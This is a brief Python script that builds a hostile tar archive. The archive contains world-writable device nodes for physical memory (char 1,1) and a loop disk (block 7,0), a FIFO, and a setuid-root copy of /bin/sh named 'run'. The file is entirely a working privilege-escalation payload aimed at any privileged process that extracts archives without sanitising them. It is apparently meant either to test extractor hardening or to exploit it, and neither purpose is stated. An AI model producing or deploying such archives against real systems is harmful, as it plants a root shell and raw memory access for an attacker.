import io, sys, tarfile
with tarfile.open(fileobj=sys.stdout.buffer, mode='w|') as tar:
    for name, kind, major, minor in (('memory', tarfile.CHRTYPE, 1, 1), ('disk', tarfile.BLKTYPE, 7, 0), ('pipe', tarfile.FIFOTYPE, 0, 0)):
        entry = tarfile.TarInfo(name)
        entry.type, entry.devmajor, entry.devminor, entry.mode = kind, major, minor, 0o666
        tar.addfile(entry)
    program = open('/bin/sh', 'rb').read()
    entry = tarfile.TarInfo('run')
    entry.size, entry.mode, entry.uid = len(program), 0o6755, 0
    tar.addfile(entry, io.BytesIO(program))
